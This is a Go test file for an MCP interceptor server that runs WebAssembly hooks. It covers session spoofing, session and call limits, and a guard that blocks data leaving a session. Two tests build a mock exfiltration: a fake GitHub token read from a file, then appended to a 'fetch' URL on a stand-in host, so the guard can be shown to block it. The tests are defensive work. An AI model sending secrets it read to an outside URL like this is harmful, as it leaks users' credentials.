package interceptor

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/wasmhooks/wasmhooks/capability/builtin"
)

// e2eConfig is the interceptor configuration of the end-to-end tests, in
// its file form; modules are written next to it.
const e2eConfig = `{
  "modules": {"behaviors": "behaviors.wasm", "guard": "cross-boundary-guard.wasm"},
  "interceptors": [
    {"name": "e2e/require-note", "type": "validation", "events": ["tools/call"], "phases": "request",
     "module": "behaviors", "settings": {"behavior": "require-note"}},
    {"name": "e2e/uppercase-note", "type": "mutation", "events": ["tools/call"], "phases": "both",
     "module": "behaviors", "settings": {"behavior": "uppercase-note"}, "priorityHint": -10},
    {"name": "e2e/guard", "type": "validation", "events": ["*"], "phases": "both",
     "module": "guard", "grants": ["kv.get", "kv.set"]}
  ]
}`

func writeE2EConfig(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for file, mod := range map[string]string{"behaviors.wasm": "behaviors", "cross-boundary-guard.wasm": "cross-boundary-guard"} {
		if err := os.WriteFile(filepath.Join(dir, file), buildHook(t, mod), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p := filepath.Join(dir, "interceptors.json")
	if err := os.WriteFile(p, []byte(e2eConfig), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// call calls tool with args and decodes its structured content into out.
func call(t *testing.T, cs *mcp.ClientSession, tool string, args any, out any) error {
	t.Helper()
	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		return err
	}
	if res.IsError {
		t.Fatalf("%s: tool error %+v", tool, res.Content)
	}
	b, err := json.Marshal(res.StructuredContent)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, out); err != nil {
		t.Fatalf("%s: %v in %s", tool, err, b)
	}
	return nil
}

// exercise lists and invokes interceptors and runs chains through a client
// session, whatever the transport.
func exercise(t *testing.T, cs *mcp.ClientSession) {
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tl := range tools.Tools {
		names = append(names, tl.Name)
	}
	if got := strings.Join(names, ","); !strings.Contains(got, ToolList) || !strings.Contains(got, ToolInvoke) || !strings.Contains(got, ToolChain) {
		t.Fatalf("tools: %s", got)
	}

	var list ListResult
	if err := call(t, cs, ToolList, map[string]any{"event": "resources/read"}, &list); err != nil {
		t.Fatal(err)
	}
	if len(list.Interceptors) != 1 || list.Interceptors[0].Name != "e2e/guard" {
		t.Fatalf("list for resources/read: %+v", list)
	}

	var r Result
	if err := call(t, cs, ToolInvoke, map[string]any{"name": "e2e/require-note", "event": "tools/call", "phase": "request",
		"payload": map[string]any{"name": "echo", "arguments": map[string]any{}}}, &r); err != nil {
		t.Fatal(err)
	}
	if r.Valid == nil || *r.Valid || len(r.Messages) != 1 || r.Messages[0].Message != "note is required" {
		t.Fatalf("invoke require-note: %+v", r)
	}

	err = call(t, cs, ToolInvoke, map[string]any{"name": "e2e/nope", "event": "tools/call", "phase": "request", "payload": map[string]any{}}, &r)
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) || werr.Code != CodeInvalidParams {
		t.Fatalf("invoke of an unknown name: %v, want JSON-RPC error %d", err, CodeInvalidParams)
	}

	var cr ChainResult
	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "request",
		"payload": map[string]any{"name": "echo", "arguments": map[string]any{"note": "hi", "n": 42}}}, &cr); err != nil {
		t.Fatal(err)
	}
	if cr.Status != StatusSuccess {
		t.Fatalf("chain: %+v", cr)
	}
	if b, _ := json.Marshal(cr.FinalPayload); string(b) != `{"arguments":{"n":42,"note":"HI"},"name":"echo"}` {
		t.Fatalf("final payload %s", b)
	}

	// The guard's taint, kept per session through kv.
	ictx := map[string]any{"sessionId": "e2e-1"}
	secret := "ghp_E2eT0kenReadFromFilesystem9"
	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "response", "context": ictx,
		"payload": map[string]any{"name": "read_file", "content": []any{map[string]any{"type": "text", "text": secret}}}}, &cr); err != nil || cr.Status != StatusSuccess {
		t.Fatalf("response: %v %+v", err, cr)
	}
	var relay ChainResult
	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": ictx,
		"payload": map[string]any{"name": "fetch", "arguments": map[string]any{"note": "x", "url": "https://x.example/" + secret}}}, &relay); err != nil {
		t.Fatal(err)
	}
	if relay.Status != StatusValidationFailed || relay.AbortedAt == nil || relay.AbortedAt.Interceptor != "e2e/guard" || relay.FinalPayload != nil {
		t.Fatalf("relay: %+v", relay)
	}
}

func connect(t *testing.T, tr mcp.Transport) *mcp.ClientSession {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "e2e", Version: "1"}, nil).Connect(ctx, tr, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cs.Close() })
	return cs
}

// TestServeHTTP serves the interceptors over streamable HTTP and drives them
// with the official SDK's client.
func TestServeHTTP(t *testing.T) {
	hs := serveE2EHTTP(t, HTTPOptions{})
	cs := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})
	if caps := cs.InitializeResult().Capabilities; caps == nil || caps.Experimental["interceptor"] == nil {
		t.Errorf("capabilities lack the interceptor capability: %+v", caps)
	}
	exercise(t, cs)
}

// serveE2EHTTP serves the e2e configuration's interceptor over HTTP, with
// opts' bounds, until the test ends.
func serveE2EHTTP(t *testing.T, opts HTTPOptions) *httptest.Server {
	t.Helper()
	return serveHTTP(t, NewServer(e2eExecutor(t), "test"), opts)
}

// e2eExecutor is an executor of the e2e configuration, closed when the test
// ends.
func e2eExecutor(t *testing.T) *Executor {
	t.Helper()
	cfg, err := LoadConfigFile(writeE2EConfig(t), "")
	if err != nil {
		t.Fatal(err)
	}
	x, err := New(context.Background(), cfg, Options{Runtime: testRuntime(t), HostCaller: newHostCaller(t), Logger: quiet})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = x.Close(context.Background()) })
	return x
}

// serveHTTP serves s over HTTP, with opts' bounds, until the test ends.
func serveHTTP(t *testing.T, s *mcp.Server, opts HTTPOptions) *httptest.Server {
	t.Helper()
	hs := httptest.NewServer(HTTPHandler(s, opts))
	// Cleanups run last first: the client sessions close (and with them
	// their standalone SSE streams) before the server waits for its
	// connections.
	t.Cleanup(hs.Close)
	return hs
}

// buildCommand builds the wasmhooks command (go build caches the work).
func buildCommand(t *testing.T) string {
	t.Helper()
	if testing.Short() {
		t.Skip("builds the command")
	}
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command:", err)
	}
	bin := filepath.Join(t.TempDir(), "wasmhooks")
	if b, err := exec.Command(goBin, "build", "-o", bin, "../cmd/wasmhooks").CombinedOutput(); err != nil {
		t.Fatalf("building the command: %v\n%s", err, b)
	}
	return bin
}

// TestServeCLIHTTP runs `wasmhooks mcp --config --http 127.0.0.1:0` and
// drives it over streamable HTTP with the official SDK's client.
func TestServeCLIHTTP(t *testing.T) {
	exercise(t, connect(t, &mcp.StreamableClientTransport{Endpoint: startCLIHTTP(t, nil), MaxRetries: -1}))
}

// startCLIHTTP runs `wasmhooks mcp --config --http 127.0.0.1:0`, with env
// added to its environment, until the test ends, and returns its endpoint.
func startCLIHTTP(t *testing.T, env []string) string {
	t.Helper()
	cmd := exec.Command(buildCommand(t), "mcp", "--config", writeE2EConfig(t), "--cache-dir", "", "--http", "127.0.0.1:0")
	cmd.Env = append(os.Environ(), env...)
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		_ = cmd.Wait()
	})
	url := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			if _, u, ok := strings.Cut(sc.Text(), "serving streamable HTTP at "); ok {
				url <- u
			}
		}
	}()
	select {
	case u := <-url:
		return u
	case <-time.After(2 * time.Minute):
		t.Fatal("the command did not say where it serves")
	}
	return ""
}

// TestServeStdio runs `wasmhooks mcp --config` and drives it over stdio with
// the official SDK's client.
func TestServeStdio(t *testing.T) {
	cmd := exec.Command(buildCommand(t), "mcp", "--config", writeE2EConfig(t), "--cache-dir", "")
	cmd.Stderr = os.Stderr
	exercise(t, connect(t, &mcp.CommandTransport{Command: cmd}))
}

// TestSessionIDNotSpoofable: the sessionId the server derives from a
// client's MCP session ("mcp-session:ID") scopes that client's taint. Another
// client that sent that sessionId itself read the first one's taint (its
// relay was blocked for the other's secret) and could overwrite it; the
// reserved prefix is refused unless it names the caller's own session.
func TestSessionIDNotSpoofable(t *testing.T) {
	hs := serveE2EHTTP(t, HTTPOptions{})
	victim := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})
	attacker := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})

	secret := "ghp_E2eT0kenReadFromFilesystem9"
	var cr ChainResult
	if err := call(t, victim, ToolChain, map[string]any{"event": "tools/call", "phase": "response",
		"payload": map[string]any{"name": "read_file", "content": []any{map[string]any{"type": "text", "text": secret}}}}, &cr); err != nil || cr.Status != StatusSuccess {
		t.Fatalf("victim's response: %v %+v", err, cr)
	}
	// The victim naming its own derived session is fine, and sees its taint.
	own := map[string]any{"sessionId": "mcp-session:" + victim.ID()}
	relay := map[string]any{"name": "fetch", "arguments": map[string]any{"note": "x", "url": "https://x.example/" + secret}}
	if err := call(t, victim, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": own, "payload": relay}, &cr); err != nil || cr.Status != StatusValidationFailed {
		t.Fatalf("victim's own relay: %v %+v", err, cr)
	}
	// The attacker naming the victim's session is refused.
	err := call(t, attacker, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": own, "payload": relay}, &cr)
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) || werr.Code != CodeInvalidParams {
		t.Fatalf("attacker naming the victim's session: %v %+v, want JSON-RPC error %d", err, cr, CodeInvalidParams)
	}
}

// TestServeStdioManySessions: `wasmhooks mcp` keeps the hooks' per-session
// state in a SessionKV. In the store it had (builtin.MemoryKV, at most
// DefaultMaxKeysPerScope keys a hook), the guard's state of every session
// after the first thousand was refused, and the guard, fail-closed, blocked
// all of their traffic.
func TestServeStdioManySessions(t *testing.T) {
	cmd := exec.Command(buildCommand(t), "mcp", "--config", writeE2EConfig(t), "--cache-dir", "")
	cmd.Stderr = os.Stderr
	cs := connect(t, &mcp.CommandTransport{Command: cmd})
	for i := 0; i < builtin.DefaultMaxKeysPerScope+10; i++ {
		var cr ChainResult
		if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "request",
			"context": map[string]any{"sessionId": fmt.Sprint("many-", i)},
			"payload": map[string]any{"name": "fetch", "arguments": map[string]any{"note": "x"}}}, &cr); err != nil {
			t.Fatal(err)
		}
		if cr.Status != StatusSuccess {
			t.Fatalf("session %d: %s %+v, want success", i, cr.Status, cr.AbortedAt)
		}
	}
}

// initializeHTTP posts an initialize to the streamable HTTP endpoint and
// returns the status and the session it opened.
func initializeHTTP(t *testing.T, endpoint string) (status int, session string) {
	t.Helper()
	return initializeHTTPAuth(t, endpoint, "")
}

// initializeHTTPAuth is initializeHTTP with auth as the Authorization
// header, if not "".
func initializeHTTPAuth(t *testing.T, endpoint, auth string) (status int, session string) {
	t.Helper()
	body := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`
	req, err := http.NewRequest(http.MethodPost, endpoint, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	return resp.StatusCode, resp.Header.Get("Mcp-Session-Id")
}

// TestHTTPSessionsBounded: any client that reaches the HTTP address opens
// sessions, each kept until it is deleted (or idle for SessionIdle). Past
// MaxSessions an initialize is refused with 503, and served again once a
// session is deleted. Without the bound every initialize opened one more.
func TestHTTPSessionsBounded(t *testing.T) {
	const bound = 3
	hs := serveE2EHTTP(t, HTTPOptions{MaxSessions: bound})
	var sessions []string
	for i := 0; i < bound; i++ {
		code, id := initializeHTTP(t, hs.URL)
		if code != http.StatusOK || id == "" {
			t.Fatalf("session %d: status %d, id %q", i, code, id)
		}
		sessions = append(sessions, id)
	}
	if code, id := initializeHTTP(t, hs.URL); code != http.StatusServiceUnavailable {
		t.Fatalf("session %d past the bound %d: status %d (id %q), want 503", bound+1, bound, code, id)
	}
	req, _ := http.NewRequest(http.MethodDelete, hs.URL, nil)
	req.Header.Set("Mcp-Session-Id", sessions[0])
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	if code, id := initializeHTTP(t, hs.URL); code != http.StatusOK || id == "" {
		t.Fatalf("after a session was deleted: status %d, id %q, want a new session", code, id)
	}
}

// A server runs at most MaxCallsInFlight calls at once over all its
// sessions: past it an HTTP session's call is refused with CodeBusy (its
// POST's end does not end the call, so the transport cannot bound them),
// and served again once a slot is free. Without the bound every call ran.
func TestCallsInFlightBounded(t *testing.T) {
	slots := make(callSlots, 1)
	hs := serveHTTP(t, newServer(e2eExecutor(t), "test", slots), HTTPOptions{})
	cs := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})
	args := map[string]any{"event": "tools/call", "phase": "request", "payload": map[string]any{"name": "echo", "arguments": map[string]any{"note": "hi"}}}

	slots <- struct{}{} // a call in flight
	var cr ChainResult
	err := call(t, cs, ToolChain, args, &cr)
	var werr *jsonrpc.Error
	if !errors.As(err, &werr) || werr.Code != CodeBusy {
		t.Fatalf("a call past the bound: %v %+v, want JSON-RPC error %d", err, cr, CodeBusy)
	}
	<-slots
	if err := call(t, cs, ToolChain, args, &cr); err != nil || cr.Status != StatusSuccess {
		t.Fatalf("a call once the slot is free: %v %+v", err, cr)
	}
	if len(slots) != 0 {
		t.Fatalf("%d slots still taken after the calls ended", len(slots))
	}
}

// acquire: a slot while there is one; none, a refusal at once, or a wait
// that ends with a slot freed or with its context.
func TestCallSlots(t *testing.T) {
	s := make(callSlots, 1)
	release, err := s.acquire(context.Background(), false)
	if err != nil {
		t.Fatal(err)
	}
	var werr *jsonrpc.Error
	if _, err := s.acquire(context.Background(), false); !errors.As(err, &werr) || werr.Code != CodeBusy {
		t.Fatalf("no slot, no wait: %v, want CodeBusy", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.acquire(ctx, true); !errors.As(err, &werr) || werr.Code != CodeBusy {
		t.Fatalf("no slot, waiting, context done: %v, want CodeBusy", err)
	}
	got := make(chan error)
	go func() {
		r, err := s.acquire(context.Background(), true)
		if err == nil {
			r()
		}
		got <- err
	}()
	release()
	if err := <-got; err != nil {
		t.Fatalf("a wait for a slot freed: %v", err)
	}
}
